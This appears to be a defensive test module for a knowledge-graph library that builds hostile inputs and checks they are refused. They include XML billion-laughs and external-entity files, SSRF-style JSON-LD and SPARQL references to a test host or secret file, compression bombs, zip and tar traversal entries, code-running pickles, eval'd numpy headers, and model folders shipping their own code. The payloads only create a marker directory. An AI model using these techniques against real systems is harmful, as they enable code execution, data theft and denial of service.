"""Hostile files: XML, references to elsewhere, archives, pickles under other names, and models that bring code."""

from __future__ import annotations

import gzip
import io
import json
import struct
import sys
import tarfile  # noqa: TID251 - makes what has to be refused
import zipfile  # noqa: TID251 - makes what has to be refused
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import fields
from functools import partial
from pathlib import Path
from typing import Any

import kg_data
from kgreason import interop, storage
from kgreason.errors import KGReasonError
from kgreason.graph import KnowledgeGraph
from kgreason.graph.manifest import CURRENT, MANIFEST, content_digest, live_version
from kgreason.grounding import Rules
from kgreason.interop.sparql import query
from tools.safety.attack import Attack, Place, ingest
from tools.safety.images import built

__all__ = ["archives", "documents", "exported", "models", "payloads", "pickles", "references", "weights_at"]

_RDF = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e:"'
_SAID = '<rdf:Description rdf:about="urn:a"><e:b>{}</e:b></rdf:Description>'
_NODES = '<graph edgedefault="directed"><node id="a"/><node id="b"/><edge source="a" target="b"/>{}</graph>'


def _document(text: str, prolog: str = "", attributes: str = "") -> Iterator[tuple[str, str]]:
    """The same content as RDF/XML and as GraphML."""
    yield "a.rdf", f"{prolog}<rdf:RDF {_RDF} {attributes}>{_SAID.format(text)}</rdf:RDF>"
    data = f'<graph><node id="a"><data key="label">{text}</data></node></graph>'
    yield "a.graphml", f"{prolog}<graphml {attributes}>{_NODES.format('')}{data}</graphml>"


def _read(files: Callable[[Place], Iterator[tuple[str, str | bytes]]]) -> Callable[[Place], object]:
    """Reads the files of an attack one after another until one is not refused."""

    def run(place: Place) -> object:
        refusal = None
        for name, data in files(place):
            try:
                return ingest(place.file(name, data))
            except KGReasonError as error:
                refusal = error
        assert refusal is not None
        raise refusal

    return run


def _entities(levels: int, times: int, size: int = 3) -> str:
    first = f'<!ENTITY e0 "{"x" * size}">'
    return first + "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * times}">' for i in range(1, levels))


def documents() -> Iterator[Attack]:
    """Fifteen XML documents that make a parser expand, fetch or misread."""

    def attack(name: str, text: str, prolog: str, attributes: str = "", encoding: str = "utf-8") -> Attack:
        def files(place: Place) -> Iterator[tuple[str, bytes]]:
            for file, data in _document(text, prolog.format(secret=place.secret, host=place.host), attributes):
                yield file, data.encode(encoding)

        return Attack(f"XML: {name}", _read(files))

    yield attack("a billion laughs", "&e9;", f"<!DOCTYPE a [{_entities(10, 10)}]>")
    yield attack("six levels", "&e5;", f"<!DOCTYPE a [{_entities(6, 10)}]>")
    yield attack("quadratic expansion", "&e0;" * 9_999, f"<!DOCTYPE a [{_entities(1, 1, 99_999)}]>")
    yield attack("an entity of itself", "&a;", '<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')
    yield attack("an external file", "&a;", '<!DOCTYPE a [<!ENTITY a SYSTEM "file://{secret}">]>')
    yield attack("an external address", "&a;", '<!DOCTYPE a [<!ENTITY a SYSTEM "http://{host}/a">]>')
    yield attack("a parameter entity", "x", '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://{host}/a.dtd"> %p;]>')
    yield attack("an external document type", "x", '<!DOCTYPE a SYSTEM "http://{host}/a.dtd">')
    yield attack("a public document type", "x", '<!DOCTYPE a PUBLIC "-//E//E" "http://{host}/a.dtd">')
    yield attack("a document type alone", "x", "<!DOCTYPE a>")
    yield attack("an entity in an attribute", "x", '<!DOCTYPE a [<!ENTITY a "x">]>', 'e="&a;" xmlns:f="&a;"')
    yield attack("a document type after a comment", "&a;", '<!-- --><?x y?>\n<!DOCTYPE a [<!ENTITY a "x">]>')
    yield attack("UTF-16", "&a;", '<!DOCTYPE a [<!ENTITY a "x">]>', encoding="utf-16")
    yield attack("UTF-7", "x", '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a>')
    yield attack("nesting", "<a>" * 99_999 + "</a>" * 99_999, "")


_LD = '"@id": "urn:a", "urn:b": 1'


def references() -> Iterator[Attack]:
    """Forty references to other places, in files, queries and paths."""
    contexts = {
        "an address": '"http://{host}/c"', "TLS": '"https://{host}/c"', "a file": '"file://{secret}"',
        "a relative file": '"../secret"', "a list": '[{{}}, "http://{host}/c"]', "no scheme": '"//{host}/c"',
        "a decimal host": '"http://2130706433:{port}/c"', "a hexadecimal host": '"http://0x7f000001:{port}/c"',
        "an IPv6 host": '"http://[::ffff:7f00:1]:{port}/c"', "FTP": '"ftp://{host}/c"',
        "an import": '{{"@version": 1.1, "@import": "http://{host}/c"}}',
        "a context of a property": '{{"t": {{"@id": "urn:t", "@context": "http://{host}/c"}}}}',
        "a context of a type": '{{"T": {{"@id": "urn:T", "@context": "http://{host}/c"}}}}',
    }  # fmt: skip
    for name, context in contexts.items():
        yield Attack(f"JSON-LD: {name}", partial(_context, context))
    yield Attack("JSON-LD: within a graph", partial(_context, '{{}}, "@graph": [{{"@context": "http://{host}/c"}}]'))
    texts = {
        "an ontology's import": ("a.ttl", "<urn:a> <http://www.w3.org/2002/07/owl#imports> <http://{host}/o> ."),
        "a base": ("a.ttl", "@base <http://{host}/> . <a> <b> <c> ."),
        "a prefix": ("a.ttl", "@prefix p: <http://{host}/> . p:a p:b p:c ."),
        "a named graph": ("a.nq", "<http://{host}/a> <urn:b> <file://{secret}> <http://{host}/g> ."),
        "a base of XML": ("a.rdf", f'<rdf:RDF {_RDF} xml:base="http://{{host}}/">{_SAID.format("x")}</rdf:RDF>'),
        "a style sheet": ("a.rdf", f'<?xml-stylesheet href="http://{{host}}/s"?><rdf:RDF {_RDF}>{_SAID.format("x")}'
                          "</rdf:RDF>"),
        "an inclusion": ("a.graphml", '<graphml xmlns:xi="http://www.w3.org/2001/XInclude">' + _NODES.format(
            '<xi:include href="file://{secret}" parse="text"/>') + "</graphml>"),
        "a schema": ("a.graphml", '<graphml xmlns:x="http://www.w3.org/2001/XMLSchema-instance" '
                     'x:schemaLocation="urn:x http://{host}/x">' + _NODES.format("") + "</graphml>"),
    }  # fmt: skip
    for name, (file, text) in texts.items():
        yield Attack(f"{file}: {name}", partial(_text, file, text), refused=False)
    queries = (
        "SELECT * {{SERVICE <http://{host}/> {{?a ?b ?c}}}}",
        "SELECT * {{SERVICE SILENT <http://{host}/> {{?a ?b ?c}}}}",
        "SELECT * {{?a ?b ?c service <http://{host}/> {{?d ?e ?f}}}}",
        "SELECT * {{?a ?b 1SERVICE <http://{host}/> {{}}}}",
        "SELECT * {{VALUES ?s {{<http://{host}/>}} SERVICE ?s {{?a ?b ?c}}}}",
        "SELECT * {{?a ?b ?c FILTER(?a<?b)SERVICE#>\n <http://{host}/> {{}}}}",
        "SELECT * {{S\\u0045RVICE <http://{host}/> {{?a ?b ?c}}}}",
        "SELECT * FROM <http://{host}/> {{?a ?b ?c}}", "SELECT * FROM NAMED <http://{host}/> {{GRAPH ?g {{?a ?b ?c}}}}",
        "SELECT * FROM <file://{secret}> {{?a ?b ?c}}", "LOAD <http://{host}/a.nt>",
        "LOAD SILENT <file://{secret}> INTO GRAPH <urn:g>",
        "INSERT DATA {{<urn:a> <urn:b> <urn:c>}} ; LOAD <http://{host}/>",
    )  # fmt: skip
    for text in queries:
        yield Attack(f"SPARQL: {text[:60]}", partial(_asked, text))
    places = ("http://{host}/a.nt", "s3://{host}/a.parquet", "file://{secret}", "http://{host}/")
    for address in places:
        yield Attack(f"path: {address}", partial(_opened, address))
    yield Attack("path: exchange", lambda place: interop.read(Path(f"http://{place.host}/a.parquet")))


def _context(context: str, place: Place) -> object:
    filled = context.format(host=place.host, port=place.host.rpartition(":")[2], secret=place.secret)
    return ingest(place.file("a.jsonld", f'{{"@context": {filled}, "@type": "T", "t": {{"urn:c": 2}}, {_LD}}}'))


def _text(file: str, text: str, place: Place) -> object:
    return ingest(place.file(file, text.format(host=place.host, secret=place.secret) + "\n"))


def _asked(text: str, place: Place) -> object:
    path = place.file("a.nt", "<urn:a> <urn:b> <urn:c> .\n")
    return query(path, text.format(host=place.host, secret=place.secret))


def _opened(address: str, place: Place) -> object:
    path = address.format(host=place.host, secret=place.secret)
    with suppress(KGReasonError):
        return ingest(Path(path))
    return KnowledgeGraph.open(path)


_BOMB = 80 * 1024**2  # unpacked; beyond the floor under which any ratio is allowed


def archives() -> Iterator[Attack]:
    """Twenty-five archives: bombs of every format that is read packed, and archives that no reader opens."""
    bombs = {
        "a.csv": (b"source,relation,target\n", b"a,b,~\n"),
        "conceptnet.csv": (b"", b"/a/\t/r/A\t/c/en/a\t/c/en/~\t{}\n"),
        "a.graph": (b"", b"a\t~\t{'freq': 5, 'score': 1, 'rel': u'IsA'}\n"),
        "a.jsonl": (b"", b'{"source": "a", "relation": "b", "target": "~"}\n'),
        "atomic.csv": (b"event,oEffect\n", b'~,"[""a""]"\n'),
        "a.nl": (b"", b"p(a, ~).\n"),
        "a.nt": (b"", b"<a:a> <a:b> <a:~> .\n"),
        "a.ttl": (b"", b"<a:a> <a:b> <a:~> .\n"),
        "a.rdf": (b"<rdf:RDF>", b"<!--~-->"),
        "a.jsonld": (b"[", b'"~",'),
        "a.graphml": (b"<graphml>", b"<!--~-->"),
        "zeros": (b"", b"\0" * 65_536),
    }
    for name, (head, line) in bombs.items():
        yield Attack(f"bomb: {name}.gz", partial(_bomb, name, head, line))
    yield Attack("bomb of many members", _members)
    yield Attack("gzip in gzip", lambda place: ingest(place.file("a.gz", gzip.compress(gzip.compress(b"a,b,c\n")))))
    yield Attack("half a gzip", lambda place: ingest(place.file("a.gz", gzip.compress(b"a,b,c\n" * 999)[:-9])))
    yield Attack("parquet that repeats one long text", _dictionary)
    yield Attack("facts that repeat one long text", partial(_dictionary, folder=True))
    for name in ("../marker", "/tmp/../{marker}", "C:\\marker"):
        yield Attack(f"zip: {name}", partial(_zip, name))
    yield Attack("zip: a link", partial(_zip, "link", mode=0o120777))
    for kind in ("absolute", "symlink", "hardlink", "device"):
        yield Attack(f"tar: {kind}", partial(_tar, kind))


def _bomb(name: str, head: bytes, line: bytes, place: Place) -> object:
    line = line.replace(b"~", b"x" * 65_521)  # long lines, since a parser is slower than a bomb
    return ingest(place.file(f"{name}.gz", gzip.compress(head + line * (_BOMB // len(line)), 1)))


def _members(place: Place) -> object:
    member = gzip.compress(b"a,b,%s\n" % (b"x" * 1_000_000))
    return ingest(place.file("a.csv.gz", gzip.compress(b"source,relation,target\n") + member * 90))


def _dictionary(place: Place, folder: bool = False) -> object:
    import polars as pl

    many = 2_000
    table = pl.DataFrame({"source": ["x" * 10**5] * many, "relation": "r", "target": "t", "weight": 1000})
    file = io.BytesIO()
    table.write_parquet(file)
    path = place.file("facts/assertions.parquet" if folder else "a.parquet", file.getvalue())
    return ingest(path.parent if folder else path)


def _zip(name: str, place: Place, mode: int = 0o644) -> object:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        entry = zipfile.ZipInfo(name.format(marker=place.marker))
        entry.external_attr = mode << 16
        packed.writestr(entry, "source,relation,target\na,b,c\n")
    return ingest(place.file("a.zip", file.getvalue()))


def _tar(kind: str, place: Place) -> object:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as packed:
        entry = tarfile.TarInfo(str(place.marker) if kind == "absolute" else "a.csv")
        types = {"symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE, "device": tarfile.CHRTYPE}
        entry.type = types.get(kind, tarfile.REGTYPE)
        entry.linkname = str(place.secret) if "link" in kind else ""
        packed.addfile(entry)
    return ingest(place.file("a.tar.gz", file.getvalue()))


def pickles() -> Iterator[Attack]:
    """Twenty-five files that would run code, or tell a secret, where a library took them for what they are not."""
    for name in ("a.pkl", "a.pt", "a.parquet", "a.csv", "a.jsonl", "a.nt", "a.npy"):
        yield Attack(f"pickle: {name}", partial(_disguised, name))
    yield Attack("pickle: an array of an image", partial(_image, "idx.npy", _objects))
    yield Attack("pickle: whole, as an array of an image", partial(_image, "idx.npy", _pickle))
    yield Attack("pickle: the manifest of an image", partial(_image, MANIFEST, _pickle))
    yield Attack("pickle: CURRENT of an image", partial(_image, CURRENT, _pickle))
    yield Attack("pickle: the weights of a checkpoint", partial(_weights, "model.safetensors"))
    yield Attack("pickle: the adapter of a checkpoint", partial(_weights, "adapter/adapter_model.safetensors"))
    yield Attack("pickle: the weights of a base", partial(_base, "pytorch_model.bin"))
    yield Attack("pickle: the weights of a base, as safe ones", partial(_base, "model.safetensors"))
    yield Attack("pickle: the average of a run", _average)
    yield Attack("pickle: the first losses of a run", _first_losses)
    yield Attack("pickle: what the teachers of a run said", _teachers)
    yield Attack("pickle: the ranks of a run", _ranks)
    for name in ("text.onnx", "tokenizer.json"):
        yield Attack(f"pickle: {name} of an export", partial(exported, name, _pickle))
    for name in ("{secret}", "../secret"):
        yield Attack(
            f"secret: weights of an export at {name}", partial(exported, "text.onnx", partial(weights_at, name))
        )
    yield Attack("pickle: a file of rules", lambda place: Rules.load(place.file("rules.toml", _pickle(place))))
    yield Attack("code in the header of an array", partial(_image, "ptr.npy", _header))


def _pickle(place: Place) -> bytes:
    """Makes the marker when it is loaded; written by hand, since nothing here knows how to pickle."""
    return f"cos\nmkdir\n(S'{place.marker}'\ntR.".encode()


def _npy(header: str, data: bytes) -> bytes:
    text = header.encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


def _objects(place: Place) -> bytes:
    return _npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", _pickle(place))


def _header(place: Place) -> bytes:
    return _npy(f"{{'descr': __import__('os').mkdir({str(place.marker)!r}), 'shape': (1,)}}", b"")


def _disguised(name: str, place: Place) -> object:
    path = place.file(name, _pickle(place))
    for call in (storage.load_npy, KnowledgeGraph.open):
        with suppress(KGReasonError):
            return call(path)
    return ingest(path)


def payloads(place: Place) -> dict[str, bytes]:
    """What the pickles and headers above are made of: each makes the marker where it is unpickled or evaluated."""
    return {"pickle": _pickle(place), "objects": _objects(place), "header": _header(place)}


def models() -> Iterator[Attack]:
    """Four models whose folders bring code of their own, or a pickle, to somebody who says yes to all questions."""
    yield Attack("code: a base", partial(_answering_yes, partial(_coded, "load_base")))
    yield Attack("code: the tokenizer of a base", partial(_answering_yes, partial(_coded, "load_tokenizer")))
    yield Attack("code: a module of a sentence encoder", partial(_answering_yes, _module))
    yield Attack("pickle: a layer of a sentence encoder", partial(_answering_yes, _layer))


def _answering_yes(run: Callable[[Place], object], place: Place) -> object:
    before, sys.stdin = sys.stdin, io.StringIO("y\n" * 99)
    try:
        return run(place)
    finally:
        sys.stdin = before


def _coded(call: str, place: Place) -> object:
    """Opens a base that names classes of a module beside it."""
    from kgreason.nn import backbone  # torch is slow to import

    for path in filter(Path.is_file, Path(backbone.find_base(next(iter(backbone.PACKAGED)))).iterdir()):
        place.file(path.name, path.read_bytes())
    names = {"AutoConfig": "evil.Evil", "AutoModel": "evil.Evil", "AutoTokenizer": ["evil.Evil", "evil.Evil"]}
    for told in ("config.json", "tokenizer_config.json"):
        place.file(told, json.dumps({"model_type": "evil", "tokenizer_class": "Evil", "auto_map": names}))
    place.file("evil.py", _code(place))
    return getattr(backbone, call)(str(place.folder))


def _module(place: Place) -> object:
    """Reads texts with a sentence encoder that has a module of its own."""
    place.file("evil.py", _code(place))
    return _encoded(place, "evil.Evil")


def _layer(place: Place) -> object:
    """Reads texts with a sentence encoder one layer of which is there as a pickle."""
    place.file("1_Dense/config.json", '{"in_features": 384, "out_features": 2, "bias": true}')
    place.file("1_Dense/pytorch_model.bin", _pickle(place))
    return _encoded(place, "sentence_transformers.models.Dense")


def _encoded(place: Place, kind: str) -> object:
    from kgreason.nn.backbone import PACKAGED, find_base  # torch is slow to import
    from kgreason.nn.meaning import sentence_model

    for path in filter(Path.is_file, Path(find_base(next(iter(PACKAGED)))).iterdir()):
        place.file(path.name, path.read_bytes())
    kinds = {"": "sentence_transformers.models.Transformer", "1_Dense": kind}
    parts = [{"idx": i, "name": str(i), "path": path, "type": kinds[path]} for i, path in enumerate(kinds)]
    storage.write_json(place.folder / "modules.json", parts)
    return sentence_model(str(place.folder)).encode(["a text"])


def _code(place: Place) -> str:
    return f"import os\nos.mkdir({str(place.marker)!r})\nclass Evil: pass\n"


def _weights(file: str, place: Place) -> object:
    """Opens the shipped checkpoint with a pickle in the place of some of its weights."""
    from kgreason.nn.model import ReasoningModel  # torch is slow to import

    sound = kg_data.path("checkpoints/mini")
    for path in filter(Path.is_file, sound.rglob("*")):
        place.file(str(path.relative_to(sound)), path.read_bytes())
    assert (place.folder / file).exists()
    place.file(file, _pickle(place))
    return ReasoningModel.from_pretrained(place.folder)


def _base(file: str, place: Place) -> object:
    """Opens a sound base whose weights are there as a pickle alone."""
    from kgreason.nn.backbone import PACKAGED, find_base, load_base  # torch is slow to import

    config = Path(find_base(next(iter(PACKAGED)))) / "config.json"
    place.file("config.json", config.read_bytes())
    place.file(file, _pickle(place))
    return load_base(str(place.folder))


def _average(place: Place) -> object:
    """Takes up a run whose averaged weights are a pickle."""
    from torch import nn  # torch is slow to import

    from kgreason.training.optimisation import AVERAGE, Average
    from kgreason.training.practices import AverageConfig

    place.file(AVERAGE, _pickle(place))
    average = Average(AverageConfig("tail"), nn.Linear(1, 1), steps=2)
    average.load(place.folder)
    return average


def _first_losses(place: Place) -> object:
    """Takes up a run whose first losses are an array of objects."""
    from kgreason.nn.backbone import PACKAGED
    from kgreason.nn.model import ModelConfig, ReasoningModel  # torch is slow to import
    from kgreason.training.curriculum import LOSSES, initial_losses

    place.file(LOSSES, _objects(place))
    model = ReasoningModel.create(ModelConfig(base=next(iter(PACKAGED))))
    return initial_losses(model, {"a": []}, place.folder, resume=True)


def _teachers(place: Place) -> object:
    """Takes up a run whose teachers said an array of objects."""
    import torch

    from kgreason.training.distillation import PROBABILITIES, teachers_say
    from kgreason.training.practices import DistillConfig

    place.file(PROBABILITIES, _objects(place))
    return teachers_say(DistillConfig(("mini",)), {"a": []}, place.folder, device=torch.device("cpu"), resume=True)


def _ranks(place: Place) -> object:
    """Takes up a run whose ranks are a pickle."""
    from kgreason.nn.backbone import PACKAGED
    from kgreason.nn.lora import LoraSettings
    from kgreason.nn.model import ModelConfig, ReasoningModel  # torch is slow to import
    from kgreason.training.ranks import RANKS, Ranks

    place.file(RANKS, _pickle(place))
    settings = ModelConfig(base=next(iter(PACKAGED)), lora=LoraSettings(kind="adalora"))
    ranks = Ranks(ReasoningModel.create(settings), steps=9)
    ranks.load(place.folder)
    return ranks


def exported(name: str, content: Callable[[Place], bytes], place: Place) -> object:
    """Opens an export with such a file, and digests as if it had been made so."""
    from kgreason.export import runtime
    from kgreason.nn.backbone import PACKAGED, find_base

    folder = place.folder / "export"
    tokenizer = Path(find_base(next(iter(PACKAGED)))) / runtime.TOKENIZER
    sound = {runtime.TEXT: weights_at("", place), runtime.REASON: weights_at("", place)}
    files = {**sound, runtime.TOKENIZER: tokenizer.read_bytes(), name: content(place)}
    for each, data in files.items():
        storage.write_bytes(folder / each, data)
    shipped = storage.read_json(kg_data.path("checkpoints/mini/config.json"))
    settings = {each.name: shipped[each.name] for each in fields(runtime.Settings)}
    digests = {each: storage.digest_bytes(data) for each, data in files.items()}
    storage.write_json(folder / runtime.CONFIG, {"format": runtime.FORMAT, "files": digests, **settings})
    return runtime.ExportedModel(folder, threads=1)


def weights_at(where: str, place: Place) -> bytes:
    """An ONNX model whose weights lie in a file elsewhere; within it if none is named."""
    from onnx import TensorProto, helper

    weights = helper.make_tensor("w", TensorProto.UINT8, [4], b"abcd", raw=True)
    if where:
        weights.ClearField("raw_data")
        weights.data_location = TensorProto.EXTERNAL
        for key, value in {"location": where.format(secret=place.secret), "length": "4"}.items():
            entry = weights.external_data.add()
            entry.key, entry.value = key, value
    told = helper.make_tensor_value_info("y", TensorProto.UINT8, [4])
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [told], [weights])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=10)
    return bytes(model.SerializeToString())


def _image(name: str, content: Callable[[Place], bytes], place: Place) -> object:
    """Opens a sound image in which one file is replaced, and resealed as if it had been made so."""
    image = place.folder / "image"
    version = built(image)
    data = content(place)
    path = image / name if name == CURRENT else version / name
    storage.write_bytes(path, data)
    if name.endswith(".npy"):
        manifest: dict[str, Any] = json.loads((version / MANIFEST).read_text("utf-8"))
        manifest["files"][name] = {"bytes": len(data), "digest": storage.digest_bytes(data)}
        manifest["digest"] = content_digest(manifest)
        storage.write_json(version / MANIFEST, manifest)
        storage.publish(image / f"v-{manifest['digest']}", partial(_copied, version))
        storage.write_text(image / CURRENT, f"v-{manifest['digest']}\n")
        assert live_version(image) != version
    return KnowledgeGraph.open(image).arrays.idx


def _copied(version: Path, folder: Path) -> None:
    for file in storage.entries(version):
        storage.write_bytes(folder / file.name, file.read_bytes())
